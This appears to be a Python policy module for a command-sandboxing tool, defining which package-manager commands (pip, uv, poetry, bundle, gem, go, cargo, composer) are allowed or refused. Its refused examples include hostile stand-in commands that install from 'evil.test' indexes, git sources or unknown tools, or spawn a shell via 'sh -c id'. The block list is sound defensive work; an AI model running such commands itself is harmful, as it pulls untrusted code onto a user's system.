"""Rules for tools that fetch packages: from the index that is configured, by name."""

from treadle.policy.commands.rule_syntax import PackageRow

INDEX = "Packages come from the index that is configured, by name; the rest is like a test command."
ELSEWHERE = (
    "--registry --index --index-url -i --extra-index-url --find-links --trusted-host --source"
    " --default-index --git --path-to --repository -g --global --script-shell --shell-emulator"
    " --node-options --viewer --config-settings --userconfig --globalconfig"
)
_PROJECT_INSTALLS = "add"
_PROJECT_CHANGES = "install sync remove update lock build export publish init new fmt format venv"
_PROJECT_READS = "check show list tree version env info search test about config-show status"

_PIP_INSTEAD = "Install packages from the index that is configured: pip install requests."

PYTHON = (
    PackageRow(
        "pip pip3",
        INDEX,
        source="pip",
        installs="install download wheel",
        changes="uninstall sync compile",
        reads="list freeze show check tree help debug index inspect",
        takes="-r -c --requirement --constraint --progress-bar --extra --python-version -o"
        " --upgrade-strategy --format -d --dest -w --wheel-dir",
        never=f"{ELSEWHERE} --user --target -t --root --prefix config --python",
        instead=_PIP_INSTEAD,
        allows=("pip install -r requirements.txt", "pip install -e '.[dev]'", "pip freeze"),
        refuses=("pip install --index-url http://evil.test x", "pip install git+https://x"),
    ),
    PackageRow(
        "uv",
        INDEX,
        source="pip",
        installs="add",
        changes=f"{_PROJECT_CHANGES}",
        reads=f"{_PROJECT_READS} python cache",
        runs="run pip",
        takes="--extra --group --package --project --directory --python -p -r --only-group"
        " --no-group --no-extra --resolution --prerelease --color --format -o --bounds --optional"
        " --env-file",
        never=f"{ELSEWHERE} --with --with-editable --with-requirements tool self install-python",
        instead="Sync, add, lock and run with uv: uv run pytest.",
        allows=("uv run pytest -q", "uv sync --all-extras", "uv run x.py", "uv pip install httpx"),
        refuses=("uv run --with evil python x.py", "uv tool install evil", "uv publish"),
    ),
    PackageRow(
        "poetry pdm hatch pipenv flit rye pixi",
        INDEX,
        source="poetry",
        installs=_PROJECT_INSTALLS,
        changes=_PROJECT_CHANGES,
        reads=_PROJECT_READS,
        runs="run",
        takes="-C --directory --project --group -G --with --without --only --extras -E -f --format"
        " -o --output -P --python",
        never=f"{ELSEWHERE} config self shell source cache plugin",
        instead="Install, lock, build and run: poetry run pytest.",
        allows=("poetry run pytest -q", "poetry add 'requests@^2.1'", "hatch test", "pdm install"),
        refuses=("poetry run sh -c id", "poetry publish", "poetry add x@../y", "poetry config x y"),
    ),
    PackageRow(
        "virtualenv",
        "It makes an environment inside the project.",
        runs="",
        scripts=True,
        takes="-p --python --prompt",
        never="--app-data --extra-search-dir",
        allows=("virtualenv .venv",),
        refuses=("virtualenv /etc/x", "virtualenv --app-data /tmp/x .venv"),
    ),
    PackageRow(
        "uvx",
        "It runs a tool that is known; one that is not would be fetched.",
        runs="*",
        fetches=True,
        takes="--python -p",
        never="--from --with --index --index-url",
        instead="Run a tool that the project has installed: uv run ruff check.",
        allows=("uvx ruff check",),
        refuses=("uvx evil", "uvx --from evil ruff"),
    ),
    PackageRow(
        "conda mamba pipx",
        "Looking is harmless; the environment is set up before the session.",
        reads="list info env --version",
        instead="Add the tool to the project's own dependencies.",
        allows=("conda list", "pipx list"),
        refuses=("pipx run evil", "conda install evil"),
    ),
)

RUBY = (
    PackageRow(
        "bundle bundler",
        INDEX,
        source="gem",
        installs="add",
        changes="install update remove lock clean binstubs init cache package pristine",
        reads="check list show info outdated platform doctor licenses",
        runs="exec",
        bare=True,
        takes="--jobs -j --retry --without --with --gemfile --group -g --version -v --path",
        never="--source --git --github config open plugin console",
        instead="Install and run with bundle: bundle exec rspec.",
        allows=("bundle exec rspec spec/a_spec.rb", "bundle install", "bundle add rake"),
        refuses=("bundle exec sh -c id", "bundle config set x y"),
    ),
    PackageRow(
        "gem",
        INDEX,
        source="gem",
        installs="install",
        changes="build push yank uninstall cleanup",
        reads="list environment which dependency specification spec contents outdated search info",
        takes="-v --version -o --output",
        never="--source -s --clear-sources -i --install-dir",
        instead="Install from the configured source by name.",
        allows=("gem list", "gem install rake"),
        refuses=("gem install evil --source http://evil.test", "gem install ./x.gem"),
    ),
)

GO = (
    PackageRow(
        "go",
        INDEX,
        source="module",
        installs="get",
        changes="generate fmt fix clean mod work",
        runs="run install",
        scripts=True,
        takes="-C -tags -ldflags -gcflags -o -mod -p -cover",
        never="-vettool -toolexec -overlay -modfile telemetry bug",
        instead="Build, test and run packages of the project: go test ./...",
        allows=("go build ./... && go test ./...", "go run ./cmd/x", "go get example.org/x@v1.2.0"),
        refuses=(
            "go vet -vettool=./e ./...",
            "go install evil.test/x@latest",
            "go build -o /etc/x",
        ),
    ),
)

RUST = (
    PackageRow(
        "cargo",
        INDEX,
        source="crate",
        installs="add",
        changes="remove rm update fetch fix clean new init publish yank vendor generate-lockfile"
        " set-version upgrade",
        scripts=True,
        takes="-p --package --features -F --bin --example --test --target --profile"
        " --manifest-path --color --message-format -j --jobs --rename",
        never="--git --registry --index --config login logout owner install uninstall",
        instead="Build, test and lint the project: cargo test.",
        allows=("cargo test -p core -- --nocapture", "cargo add serde --features derive"),
        refuses=("cargo publish", "cargo add x --git http://evil.test", "cargo build -C ../x"),
    ),
)

PHP = (
    PackageRow(
        "composer",
        INDEX,
        source="composer",
        installs="require req update u upgrade",
        changes="install i remove dump-autoload dumpautoload reinstall format fix pint publish"
        " bump",
        reads="run run-script test lint check analyse analyze phpstan cs stan validate show info"
        " outdated why why-not depends prohibits audit licenses check-platform-reqs diagnose fund"
        " status search",
        runs="exec",
        scripts=True,
        takes="-d --working-dir --format",
        never="config global create-project repository archive self-update home browse",
        instead="Install from packagist by name, and run scripts: composer test.",
        allows=("composer install", "composer require 'a/b ^2'", "composer test"),
        refuses=("composer require ../x", "composer install -d ../x", "composer config x y"),
    ),
)
